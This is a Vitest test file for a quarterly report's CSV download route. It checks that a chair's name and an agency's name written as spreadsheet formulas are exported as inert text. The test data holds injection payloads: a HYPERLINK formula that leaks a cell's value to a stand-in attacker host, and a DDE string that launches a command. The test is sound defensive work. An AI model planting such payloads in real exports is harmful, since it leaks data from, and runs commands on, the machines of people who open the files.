/**
 * CSV formula injection (issue 20, item 7): a chair named as a spreadsheet formula, and an
 * agency likewise, reach the manager's quarterly CSVs (caseloads, agencies) as text a
 * spreadsheet shows and never runs, through the real download route; the figures beside them
 * stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { DatabaseHandle } from '../../src/lib/server/db';
import { agencies, type User } from '../../src/lib/server/db/schema';
import { useSharedDatabase } from '../../src/lib/server/db';
import { GET as download } from '../../src/routes/oversight/quarterly/download/+server';
import {
	createTestDatabase,
	makeFamily,
	makeMeeting,
	makeUnit,
	makeUser,
	sessionOf
} from '../factories';

const evilChair = '=HYPERLINK("http://evil.test/?"&A2,"Click")';
const evilAgency = "@SUM(1+1)*cmd|' /C calc'!A0";

let handle: DatabaseHandle;
let manager: User;
async function csvOf(table: string): Promise<string[][]> {
	const url = new URL(
		`http://localhost/oversight/quarterly/download?quarter=2026-Q3&format=csv&table=${table}`
	);
	const response = await download({ locals: { user: sessionOf(manager) }, url } as never);
	expect(response.status).toBe(200);
	expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
	return parse(await response.text()) as string[][];
}

beforeAll(async () => {
	handle = await createTestDatabase();
	useSharedDatabase(handle);
	const { db } = handle;
	const unitId = (await makeUnit(db)).id;
	manager = await makeUser(db, { role: 'manager', unitId });
	const chair = await makeUser(db, { role: 'chair', unitId, name: evilChair });
	const [agency] = await db
		.insert(agencies)
		.values({ name: evilAgency, kind: 'police', unitId })
		.returning();
	const police = await makeUser(db, { role: 'professional', agencyId: agency.id });
	const { children } = await makeFamily(db, { unitId, children: ['Sam', 'Alex'] });
	await makeMeeting(db, {
		unitId,
		status: 'ended',
		scheduledAt: new Date('2026-08-10T10:00:00Z'),
		childIds: children.map((c) => c.id),
		participants: [
			{ user: chair, role: 'chair' },
			{ user: police, role: 'professional' }
		]
	});
});
afterAll(async () => {
	useSharedDatabase(null);
	await handle?.close();
});

describe('the quarterly report’s CSV files', () => {
	it('write a chair named as a formula as text, the caseload beside it as a number', async () => {
		const rows = await csvOf('caseloads');
		const row = rows.find((r) => r[0].includes('HYPERLINK'));
		expect(row?.[0]).toBe(`'${evilChair}`);
		expect(row?.slice(1)).toEqual(['2', '70', 'Within']);
		// No cell anywhere could start a formula, unless it is a number.
		for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?!\d+$)/.test(cell)).toBe(false);
	});

	it('write an agency named as a formula as text in the agencies table', async () => {
		const rows = await csvOf('agencies');
		const row = rows.find((r) => r[0].includes('SUM'));
		expect(row?.[0]).toBe(`'${evilAgency}`);
		expect(row?.[1]).toBe('1');
		for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?!\d+$)/.test(cell)).toBe(false);
	});
});
